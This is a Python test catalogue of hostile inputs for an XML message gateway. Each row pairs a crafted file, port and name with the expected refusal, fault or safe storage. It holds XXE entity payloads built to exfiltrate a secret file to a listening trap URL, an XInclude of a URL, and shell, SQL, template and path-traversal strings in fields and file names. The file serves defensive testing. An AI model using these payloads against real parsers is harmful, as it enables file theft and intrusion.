"""The catalogue of bad inputs as the whole gateway sees it: a file, the port it goes to, how it must end.

What is wrong in the content of one file comes from `tests.hostile`; here are the rows that need names, headers
looked up, rights, limits of a port or files that came before.
"""

import os
import pwd
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests import hostile
from tests.documents import CREATE, PING, READ, SERVICES, guid
from tests.hostile import ACTION, HOSTILE, Content, batch, envelope, order, parts

ME = pwd.getpwuid(os.geteuid()).pw_name


@dataclass(frozen=True, kw_only=True)
class Refused:
    """The whole file is refused: error folder, reason beside it, exception row, malformed row, no answer."""

    code: str


@dataclass(frozen=True, kw_only=True)
class Fails:
    """The message goes to Error: queue row, exception row, and a fault with the same ids."""

    fault: str
    code: str


@dataclass(frozen=True, kw_only=True)
class Held:
    """The message waits with a reason, because another one of its set failed."""

    reason: str


@dataclass(frozen=True, kw_only=True)
class Left:
    """The entry stays where it is, and the port says why."""

    code: str


@dataclass(frozen=True)
class Answered:
    """The message gets a response that is no fault."""


OK = Answered()
Message = Answered | Fails | Held


@dataclass(frozen=True, kw_only=True)
class Row:
    """One input of the catalogue.

    Shape: `ends` tells what becomes of each message, in order, or of the file; `before` is sent first, under another
    name unless `same_name`; `name` is the file's, made of the row's number when None; `warns` is a warning that
    must be on record, `stores` what must stand in the stored document; `shown` is how people see the name; a
    `heavy` row takes seconds and shows what a lighter one shows too.
    """

    number: int
    title: str
    make: Callable[[], Content]
    ends: Refused | Left | tuple[Message, ...]
    port: str = "orders"
    name: bytes | None = None
    shown: str | None = None
    before: bytes | None = None
    same_name: bool = False
    warns: str | None = None
    stores: str | None = None
    sparse_bytes: int = 0
    heavy: bool = False

    @property
    def id(self) -> str:
        return f"{self.number}-{self.title}"


PORTS: Mapping[str, Mapping[str, Any]] = {
    "orders": {"process": {"mode": "parallel"}},
    "in-turn": {},
    "small": {"limits": {"max_file_bytes": 300_000, "max_envelopes": 2_000}},
    "few": {"operations": ["SalesOrderService.create"]},
    "company": {"security": {"company": "CEU", "partition": "initial"}},
    "users": {"security": {"users": ["alice"]}},
    "trusting": {"security": {"trusted_intermediaries": [ME]}},
    "halt": {"process": {"on_error": "halt"}},
    "rollback": {"process": {"on_error": "rollback"}},
    "names": {"process": {"mode": "parallel"}},
    "deleting": {"receive": {"after": "delete"}, "limits": {"max_envelope_bytes": 2_000}},
    "anything": {"receive": {"pattern": "*"}},
}
"""Options of the ports that rows go to, by name."""

_DOCUMENT_CODES = ("schema", "value.")


_HEAVY = ("attribute over 10 MB", "envelope of 9.9 MB", "envelope of exactly 10 MB", "1,000,000 tiny elements")


def _from_hostile(case: hostile.Case) -> Row:
    code = case.code or ""
    ends: Refused | tuple[Message, ...]
    if case.kind == "Q":
        ends = Refused(code=code)
    else:
        fault = "SchemaValidation" if code.startswith(_DOCUMENT_CODES) else "MalformedMessage"
        bad = case.bad if case.kind == "F" else 0
        ends = tuple(Fails(fault=fault, code=code) if n == bad else OK for n in range(1, case.envelopes + 1))
    port = "small" if case.max_envelopes < 500_000 else "orders"
    heavy = case.title in _HEAVY
    return Row(number=case.row, title=case.title, make=case.make, ends=ends, port=port, heavy=heavy)


def _content(text: str | bytes | Iterable[bytes]) -> Callable[[], Content]:
    return lambda: text.encode() if isinstance(text, str) else text


def _one(number: int, title: str, text: str, end: Message = OK, **options: Any) -> Row:
    return Row(number=number, title=title, make=_content(text), ends=(end,), **options)


def _header(number: int, title: str, header: str, end: Message = OK, **options: Any) -> Row:
    return _one(number, title, envelope(header=header), end, **options)


def _entities() -> Iterator[Row]:
    secret, trap = f"file://{hostile.SECRET}", f"http://{hostile.TRAP}"
    forbidden = Refused(code="dtd.forbidden")
    for title, subset in (
        ("out-of-band exfiltration", f'<!ENTITY % f SYSTEM "{secret}"><!ENTITY % d SYSTEM "{trap}/x.dtd"> %d; %send;'),
        (
            "error-based exfiltration",
            f'<!ENTITY % f SYSTEM "{secret}"><!ENTITY % e "<!ENTITY &#37; x SYSTEM \'file:///none/%f;\'>"> %e; %x;',
        ),
        ("exfiltration through the file itself", f'<!ENTITY f SYSTEM "{secret}">'),
    ):
        root = batch(envelope(order(form="&f;")))
        yield Row(
            number=7, title=title, ends=forbidden,
            make=_content(hostile.with_doctype(f"<!DOCTYPE Batch [{subset}]>", root)),
        )  # fmt: skip
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap}/x" parse="text"/>{hostile.line()}'
    yield _one(22, "xinclude of a URL", envelope(order(include)), Fails(fault="SchemaValidation", code="schema"))


def _sizes() -> Iterator[Row]:
    count = 1_000
    many = tuple(OK for _ in range(count))
    yield Row(number=36, title=f"batch of {count} envelopes", make=lambda: hostile.many_envelopes(count), ends=many)
    large = batch(*(envelope() for _ in range(600)))
    yield Row(
        number=37, title="file over its limit", make=_content(large), ends=Refused(code="file.too-large"), port="small"
    )
    yield Row(
        number=38, title="sparse 2 GB of NUL", make=_content(b""), ends=Refused(code="xml.not-wellformed"),
        sparse_bytes=2_000_000_000,
    )  # fmt: skip
    too_large = Fails(fault="MalformedMessage", code="message.too-large")
    pair = batch(envelope(), envelope(order(hostile.line() * 20)))
    yield Row(
        number=33, title="kept where files are deleted", make=_content(pair), ends=(OK, too_large), port="deleting"
    )
    invalid = Fails(fault="SchemaValidation", code="schema")
    yield _one(42, "100,000 tiny elements", envelope(order("<a/>" * 100_000)), invalid)
    yield Row(number=48, title="compressed file", make=_content(b"\x1f\x8b"), ends=Left(code="not-matched"),
              name=b"r048.xml.gz")  # fmt: skip


def _actions() -> Iterator[Row]:
    unknown = Fails(fault="UnknownAction", code="action.unknown")
    for title, action in (
        ("unknown service", f"{SERVICES}/NoService/create"),
        ("unknown operation", f"{SERVICES}/SalesOrderService/explode"),
        ("service in another namespace", "urn:elsewhere/SalesOrderService/create"),
    ):
        yield _header(83, title, f"<Action>{action}</Action>", unknown)
    closed = Fails(fault="UnknownAction", code="action.not-allowed")
    yield _header(83, "operation the port does not offer", f"<Action>{PING}</Action>", closed, port="few")
    for title, action in (
        ("a Python name", f"{SERVICES}/SalesOrderService/__class__"),
        ("a module", "os.system"),
        ("a path", "../../etc/passwd"),
        ("a template", f"{SERVICES}/{{{{7*7}}}}/create"),
        ("another case", f"{SERVICES}/salesorderservice/create"),
    ):
        yield _header(84, f"action is {title}", f"<Action>{action}</Action>", unknown)


def _identities() -> Iterator[Row]:
    duplicate = Fails(fault="DuplicateMessage", code="message.duplicate")

    def identified(number: int, action: str = CREATE, *, spell: Callable[[str], str] = str) -> str:
        body = parts() if action == CREATE else parts(_KEYS)
        return envelope(header=f"<MessageId>{spell(guid(number))}</MessageId><Action>{action}</Action>", body=body)

    twice = batch(identified(880_001), identified(880_001))
    yield Row(number=88, title="same id in one batch", make=_content(twice), ends=(OK, duplicate), port="in-turn")
    for title, spell, number in (
        ("again in another file", str, 880_002),
        ("again in lower case", str.lower, 880_003),
        ("again without braces", lambda text: text.strip("{}"), 880_004),
    ):
        yield Row(
            number=88, title=title, make=_content(identified(number, spell=spell)), ends=(duplicate,), port="in-turn",
            before=identified(number).encode(),
        )  # fmt: skip
    # reading changes nothing, so it is refused for want of the order and not for the id
    missing = Fails(fault="RequestFailed", code="document.not-found")
    yield Row(
        number=89, title="same id under another operation", make=_content(identified(890_001, READ)), ends=(missing,),
        port="in-turn", before=identified(890_001).encode(),
    )  # fmt: skip
    plain = envelope(order(form="twice")).encode()
    yield Row(
        number=90, title="same file without ids again", make=_content(plain), ends=(OK,), port="in-turn", before=plain,
        warns="file.repeated",
    )  # fmt: skip
    yield _header(92, "logon as somebody unknown, not trusted", f"<LogonAsUser>nobody-here</LogonAsUser>{ACTION}")
    yield _header(
        93, "trusted logon as an unknown user", f"<LogonAsUser>nobody-here</LogonAsUser>{ACTION}",
        Fails(fault="NotAuthorized", code="user.unknown"), port="trusting",
    )  # fmt: skip
    yield _header(
        93, "trusted logon as a known user", f"<LogonAsUser>contoso\\alice</LogonAsUser>{ACTION}", port="trusting"
    )
    company = Fails(fault="NotAuthorized", code="company.not-allowed")
    yield _header(94, "another company", f"<Company>DAT</Company>{ACTION}", company, port="company")
    partition = Fails(fault="NotAuthorized", code="partition.not-allowed")
    yield _header(94, "another partition", f"{ACTION}<PartitionKey>other</PartitionKey>", partition, port="company")
    yield _header(94, "the company of the port", f"<Company>CEU</Company>{ACTION}", port="company")
    yield _header(94, "no company", ACTION, port="company")
    refused = Fails(fault="NotAuthorized", code="user.not-allowed")
    yield Row(
        number=95, title="owner may not submit", make=_content(batch(envelope(), envelope())),
        ends=(refused, refused), port="users",
    )  # fmt: skip


_KEYS = (
    '<EntityKeyList xmlns="http://schemas.microsoft.com/dynamics/2006/02/documents/EntityKeyList">'
    '<EntityKey xmlns="http://schemas.microsoft.com/dynamics/2006/02/documents/EntityKey"><KeyData><KeyField>'
    "<Field>SalesId</Field><Value>none</Value></KeyField></KeyData></EntityKey></EntityKeyList>"
)


def _documents() -> Iterator[Row]:
    unexpected = Fails(fault="SchemaValidation", code="document.unexpected")
    yield _one(96, "no document", envelope(body="<Body><MessageParts/></Body>"), unexpected)
    yield _one(96, "two documents", envelope(order() + order()), unexpected)
    yield _one(96, "document of another action", envelope(_KEYS), unexpected)
    invalid = Fails(fault="SchemaValidation", code="schema")
    for date in ("2011-06-30T23:59:60Z", "2011-05-31T10:00:00+14:00", "P1Y", "24:00:00", "2011-05-31+14:01"):
        yield _one(101, f"date {date}", envelope(order(date=date)), invalid)
    yield _one(101, "date in a far time zone", envelope(order(date="2011-05-31+14:00")))
    for digits in ("123456789012.123456789012", "999999999999999999999999", "0.000000000001"):
        yield _one(102, f"quantity {digits}", envelope(order(hostile.line(digits))), stores=f">{digits}<")
    for digits in ("9" * 25, "0." + "3" * 13):
        yield _one(102, f"quantity {digits}", envelope(order(hostile.line(digits))), invalid)
    three = batch(envelope(), envelope(order(hostile.line("ten"))), envelope())
    for port, ends in (
        ("orders", (OK, invalid, OK)),
        ("halt", (OK, invalid, Held(reason="set_halted"))),
        ("rollback", (Held(reason="set_rolled_back"), invalid, Held(reason="set_rolled_back"))),
    ):
        yield Row(number=103, title=f"one bad of three, {port}", make=_content(three), ends=ends, port=port)
    for text in (
        "<svg onload=x>", "\"' onclick='x'", "=1+1", "+1+1", "@SUM(A1)", "$(reboot)", "`reboot`", "a\nINFO forged",
        "'; DROP TABLE x;", "' or '1'='1", "../../x", "%00", "\\u0000", "{0.__class__}",
    ):  # fmt: skip
        escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        yield _one(104, f"data {text!r}", envelope(order(form=escaped)), stores=f">{escaped}<")
    count = 200
    bad = batch(*(envelope(order(hostile.line("ten"))) for _ in range(count)))
    yield Row(number=105, title=f"{count} faults of one batch", make=_content(bad), ends=(invalid,) * count)


def _names() -> Iterator[Row]:
    def named(number: int, title: str, name: bytes, shown: str | None = None, **options: Any) -> Row:
        options = {"port": "names", "ends": (OK,), **options}
        return Row(number=number, title=title, make=_content(envelope()), name=name, shown=shown, **options)

    yield named(106, "newline, tab, escape", b"a\nb\tc\x1b[31m.xml", "a\\nb\\tc\\x1b[31m.xml")
    yield named(106, "carriage return and bell", b"a\r\x07.xml", "a\\r\\x07.xml")
    yield named(107, "not UTF-8", b"caf\xe9\xff.xml", "caf\\xe9\\xff.xml")
    for name in (b"-rf.xml", b" .xml", b"a b'\".xml", b"$(reboot).xml", b"`reboot`;ls.xml", b"<b>&amp;.xml",
                 b"'; DROP TABLE delivery;--.xml", b"%s%n.xml", b"{0}{port}.xml", b"*.xml", b"|&>.xml"):  # fmt: skip
        yield named(108, name.decode(), name, name.decode())
    left = Left(code="not-matched")
    for name in (b"..%2fx.xml", b"..\\..\\x.xml"):
        yield named(109, f"{name.decode()}, hidden by its dot", name, ends=left)
    for name in (b"x..%2f..%2fetc.xml", b"a\\..\\x.xml", b"C:x.xml", b"a:b.xml", b"%2e%2e%2fx.xml", b"%00.xml"):
        yield named(109, name.decode(), name, name.decode())
    yield named(110, "255 bytes", b"n" * 251 + b".xml", "n" * 251 + ".xml")
    yield named(110, "255 bytes of wide letters", "é".encode() * 125 + b"x.xml", "é" * 125 + "x.xml")
    yield named(110, "255 bytes that all need escaping", b"\xff" * 251 + b".xml", "\\xff" * 251 + ".xml")
    for name in (b"CON.xml", b"NUL.xml", b"com1.xml"):
        yield named(111, name.decode(), name, name.decode())
    for name in (b"x.xml.", b"x.xml "):
        yield named(111, f"{name.decode()!r} does not match", name, ends=left)
        yield named(111, f"{name.decode()!r} where all match", name, name.decode(), port="anything")
    for twin in ("Twin.xml", "twin.xml", "caf\u00e9.xml", "cafe\u0301.xml"):
        yield named(112, ascii(twin), twin.encode(), twin)
    yield named(113, "upper case", b"ORDER.XML", "ORDER.XML")
    for name in (b".hidden.xml", b"~$x.xml", b"x.xml.tmp", b"x.xml.part", b"x.xml.filepart", b"x.xml.crdownload",
                 b"notes.txt", b"thumbs.db"):  # fmt: skip
        yield named(114, name.decode(), name, ends=left)
    yield named(115, "right-to-left override", "a\u202elmx.exe.xml".encode(), "a\\u202elmx.exe.xml")
    yield named(116, "a name seen before", b"again.xml", "again.xml", before=envelope().encode(), same_name=True)
    claimed = b"01890000-0000-7000-8000-000000000001~order.xml"
    yield named(117, "like a claim of ours", claimed, claimed.decode())
    yield named(117, "like a staged file of ours", b"x.000001.{0}.fault.xml", "x.000001.{0}.fault.xml")


ROWS: tuple[Row, ...] = (
    *(_from_hostile(case) for case in HOSTILE),
    *_entities(),
    *_sizes(),
    *_actions(),
    *_identities(),
    *_documents(),
    *_names(),
)


def fill(content: Content, trap: str, secret: Path) -> bytes:
    """Return content that points at a listening port and at a file with a secret of this run."""
    whole = content if isinstance(content, bytes) else b"".join(content)
    return whole.replace(hostile.TRAP.encode(), trap.encode()).replace(hostile.SECRET.encode(), bytes(secret))
